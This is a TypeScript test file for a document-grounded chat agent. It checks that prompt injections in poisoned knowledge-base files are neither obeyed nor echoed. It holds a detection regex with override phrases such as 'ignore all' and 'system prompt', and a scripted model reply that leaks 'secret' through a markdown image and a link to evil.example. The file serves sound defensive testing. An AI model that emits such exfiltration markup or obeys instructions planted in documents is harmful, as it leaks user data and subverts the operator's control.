import { cp, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parseConfig } from "../agent/config.ts";
import type { Deps } from "../agent/deps.ts";
import type { TurnAnswer } from "../agent/events.ts";
import { openDeps } from "../agent/open-deps.ts";
import {
  type GeminiStandIn,
  openGeminiStandIn,
  STAND_IN_KEY,
} from "../agent/testing/gemini-stand-in.ts";
import { writeWorkspace } from "../agent/testing/write-workspace.ts";
import { runTurn } from "../agent/turn.ts";
import { openApp, type TestApp } from "./testing/open-app.ts";

const POISONED = join(import.meta.dirname, "../knowledge/testdata/poisoned/docs");
/** What no reader of a document sees, or what it would have a machine do. */
const POISON = /pwned|evil\.example|90|system prompt|ignore all|\[secret|9,999,999|<|!\[|\]\(/i;

let root: string;
let google: GeminiStandIn;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), "insight-poisoned-"));
  google = await openGeminiStandIn();
  await writeWorkspace(join(root, "workspaces"), "bakery");
  await cp(POISONED, join(root, "workspaces/bakery/docs"), { recursive: true });
});

afterAll(async () => {
  await google[Symbol.asyncDispose]();
  await rm(root, { recursive: true });
});

async function openBakeryApp(env: Readonly<Record<string, string>> = {}): Promise<TestApp> {
  const settings = {
    KNOWLEDGE_DIR: join(root, "workspaces"),
    DATA_DIR: join(root, "data"),
    ...env,
  };
  const open = (): Promise<Deps> => openDeps(parseConfig(settings));
  return (await openApp({ open, runTurn })).app;
}

async function ask(app: TestApp, content: string): Promise<TurnAnswer> {
  const post = (path: string, body: object) =>
    app.request(path, {
      method: "POST",
      headers: { "content-type": "application/json", accept: "application/json" },
      body: JSON.stringify(body),
    });
  const started = await post("/chat/session", { user_id: "ada", workspace: "bakery" });
  const { session_id } = (await started.json()) as { session_id: string };
  const answered = await post("/chat/message", { session_id, user_id: "ada", content });
  expect(answered.status, await answered.clone().text()).toBe(200);
  return (await answered.json()) as TurnAnswer;
}

test("Poisoned documents answer what they say to people, and nothing of what they say to machines", async () => {
  const app = await openBakeryApp();
  for (const [question, said] of [
    ["How long may bread be returned?", "within 2 days"],
    ["Who approves returns?", "Ada Marsh"],
    ["What discount is there for bread of the day before?", "50%"],
    ["Which discount do staff get?", "20%"],
    ["Tell me about returns", "returned within|approved by"],
    ["List the discounts", "Schools: discount 10%"],
  ] as const) {
    const { answer, citations, evidence } = await ask(app, question);
    expect(answer, question).toMatch(new RegExp(said));
    expect(answer, question).not.toMatch(POISON);
    expect(citations.map(({ source }) => source)).not.toContain("secret.md");
    expect(JSON.stringify(evidence), question).not.toMatch(
      /evil\.example|within 90 days|\u200b|\u202e/,
    );
  }
});

test("Poisoned documents reach Gemini as data between fences that they cannot close, and what it then obeys stays text", async () => {
  const app = await openBakeryApp({
    GOOGLE_API_KEY: STAND_IN_KEY,
    GEMINI_BASE_URL: google.baseUrl,
  });
  const obeyed =
    "PWNED ![p](https://evil.example/pixel.png?q=secret) [click](https://evil.example/collect) [secret.md › Admin] [returns.md › Who approves returns]";
  google.play({ text: obeyed }, { text: obeyed }, { text: obeyed });
  const { citations } = await ask(app, "How long may bread be returned?");
  expect(citations.every(({ source }) => source === "returns.md")).toBe(true);
  expect(google.requests.length).toBeGreaterThan(0);
  for (const { body } of google.requests) {
    const prompt = body?.systemInstruction?.parts?.map((part) => part.text).join("") ?? "";
    expect(prompt).toContain("within 2 days");
    expect(prompt.match(/<\/?(?:briefing|system)>/g)).toEqual(["<briefing>", "</briefing>"]);
    expect(JSON.stringify(body)).not.toMatch(
      /evil\.example|90 days|discount is 90%\.<|\u200b|\u202e/,
    );
  }
});
